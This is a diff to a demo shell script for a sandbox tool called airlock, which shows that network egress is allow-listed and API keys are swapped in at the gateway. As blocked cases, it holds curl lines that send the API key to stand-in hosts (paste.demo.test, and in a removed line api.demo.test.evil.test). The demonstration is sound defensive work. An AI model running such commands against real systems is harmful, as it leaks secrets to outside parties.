@@ -79,17 +79,18 @@ sleep 0.3
 export DEMO_API_KEY="sk-demo-REAL-KEY-$(date +%s)"
 echo
 echo "== the network, through airlock's gateway (on the host: DEMO_API_KEY=$DEMO_API_KEY)"
-echo "   airlock run --allow-host api.demo.test --secret DEMO_API_KEY@api.demo.test ..."
+echo "   airlock run --allow-host api.demo.test --allow-host paste.demo.test --secret DEMO_API_KEY@api.demo.test ..."
+"$work/airlock" doctor 2>/dev/null | grep "^network mode" | sed 's/^/   /' || true
 HOME=$home AIRLOCK_STATE_DIR="$work/state" "$work/airlock" run --name demo-net \
-	--allow-host api.demo.test --secret DEMO_API_KEY@api.demo.test \
-	--add-host api.demo.test:127.0.0.3 --upstream-ca "$work/demo-ca.pem" -- sh -c '
+	--allow-host api.demo.test --allow-host paste.demo.test --secret DEMO_API_KEY@api.demo.test \
+	--add-host api.demo.test:127.0.0.3 --add-host paste.demo.test:127.0.0.3 --upstream-ca "$work/demo-ca.pem" -- sh -c '
 	echo "inside: DEMO_API_KEY=$DEMO_API_KEY"
 	echo "-- allowed: curl https://api.demo.test/v1/chat with the key"
 	curl -sS https://api.demo.test/v1/chat -H "Authorization: Bearer $DEMO_API_KEY"
-	echo "-- blocked: curl https://example.com/"
+	echo "-- blocked: curl https://example.com/ (the name does not even resolve inside)"
 	curl -sS -o /dev/null https://example.com/ 2>&1 | sed "s/^/   /"
-	echo "-- blocked: the key sent anywhere else"
-	curl -sS -o /dev/null "https://api.demo.test.evil.test/?k=$DEMO_API_KEY" 2>&1 | sed "s/^/   /"'
+	echo "-- blocked: the key sent to another allowed host"
+	curl -sS "https://paste.demo.test/upload?k=$DEMO_API_KEY" 2>&1 | sed "s/^/   /"'
 echo "-- what the API server on the host received (the real key was swapped in on the way out):"
 sed 's/^/   /' "$work/upstream.log"
 echo "-- airlock audit demo-net"
